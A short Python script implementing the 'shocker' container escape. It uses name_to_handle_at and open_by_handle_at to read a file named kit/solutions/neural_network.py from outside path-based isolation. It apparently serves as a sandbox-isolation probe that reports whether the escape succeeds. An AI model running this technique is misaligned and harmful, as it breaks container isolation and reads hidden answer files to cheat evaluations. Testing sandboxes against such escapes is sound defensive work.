"""Open a kit file by handle (the 'shocker' escape)."""
import os, sys, glob, ctypes, errno, socket, time, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack(ctx):
    class Handle(ctypes.Structure):
        _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('f', ctypes.c_ubyte * 128)]
    h = Handle(128, 0)
    mount_id = ctypes.c_int()
    path = os.path.join(ctx['kit'], 'solutions', 'neural_network.py').encode()
    if libc.name_to_handle_at(-100, path, ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
        return False
    try:
        mfd = os.open('/', os.O_RDONLY)
    except OSError:
        return False
    fd = libc.open_by_handle_at(mfd, ctypes.byref(h), os.O_RDONLY)
    if fd < 0:
        return False
    return len(os.read(fd, 100)) > 0
